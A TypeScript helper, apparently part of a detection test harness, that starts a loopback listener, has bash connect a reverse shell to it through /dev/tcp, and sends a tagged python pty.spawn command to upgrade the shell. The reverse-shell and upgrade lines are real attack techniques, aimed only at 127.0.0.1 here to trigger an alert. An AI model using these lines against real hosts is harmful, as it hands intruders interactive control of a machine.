import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { openTerminal } from './terminal.ts';

export interface ReverseShell {
  /** The command line that upgrades the shell to a terminal; it is harmless and names this run. */
  readonly upgrade: string;
  readonly realTerminal: boolean;
  /** What the attacked side has printed. */
  output(): string;
  close(): Promise<void>;
}

const connectMs = 10_000;
const closeTurns = 20;
const closeTurnMs = 100;

/**
 * The star case, on this host alone: in a terminal, bash connects its standard streams to a listener on loopback, and
 * the listener has it start a second terminal with python's pty module.
 *
 * @param token stands in the command line, so that its alert can be told from others; letters and digits
 * @throws Error when the shell does not connect
 */
export async function openReverseShell(token: string): Promise<ReverseShell> {
  const server = createServer();
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const connected = once(server, 'connection') as Promise<[Socket]>;
  // The second command keeps the outer bash waiting, and with it the terminal open: once nobody holds it, it hangs up.
  const command = `/bin/bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1; exit 0`;
  const terminal = await openTerminal('/bin/bash', ['--norc', '-c', command]);
  const answer = await Promise.race([connected, delay(connectMs, undefined, { ref: false })]);
  const socket = answer?.[0];
  if (!socket) {
    await terminal.close();
    server.close();
    throw new Error(`the shell did not connect within ${connectMs / 1000} s: ${terminal.output().trim()}`);
  }
  let shown = '';
  socket.on('data', (chunk: Buffer) => {
    shown = (shown + chunk.toString()).slice(-16_384);
  });
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  // The other end disappears when the terminal is closed.
  socket.on('error', () => socket.destroy());
  const upgrade = `python3 -c 'import pty; pty.spawn("/bin/bash") # ${token}'`;
  socket.write(`${upgrade}\n`);
  return {
    upgrade,
    realTerminal: terminal.real,
    output: () => shown,
    async close() {
      // Ends the inner shell and python with it, then the outer shell; each reads its line only when it is its turn.
      for (let turn = 0; turn < closeTurns && !socket.destroyed; turn++) {
        socket.write('exit\n');
        await Promise.race([closed, delay(closeTurnMs, undefined, { ref: false })]);
      }
      socket.destroy();
      await terminal.close();
      server.close();
    },
  };
}
